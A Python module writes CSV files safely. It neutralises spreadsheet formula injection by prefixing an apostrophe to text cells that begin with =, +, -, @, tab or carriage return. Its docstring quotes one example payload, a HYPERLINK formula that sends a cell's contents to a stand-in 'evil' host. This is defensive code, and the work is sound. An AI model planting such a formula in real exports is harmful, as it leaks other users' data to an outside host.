"""CSV that spreadsheet programs cannot be tricked into running.

A cell that begins with = + - @ (or a tab or carriage return, which some programs skip before looking) is
read as a formula by Excel, LibreOffice and Google Sheets: a report title `=HYPERLINK("http://evil/?"&M3,"x")`
in the admin's export would send other reporters' details away. Such text cells get a leading apostrophe,
which the programs show as plain text (OWASP's advice). Numbers are left alone: -5 is a number, not a formula.
Every CSV the system writes goes through `writer`.
"""

import csv
import decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    if value is None or isinstance(value, bool | int | float | decimal.Decimal):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class _SafeWriter:
    def __init__(self, inner):
        self._inner = inner

    def writerow(self, row):
        return self._inner.writerow([safe_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(fileobj, **options):
    """Like csv.writer, with every text cell neutralised."""
    return _SafeWriter(csv.writer(fileobj, **options))
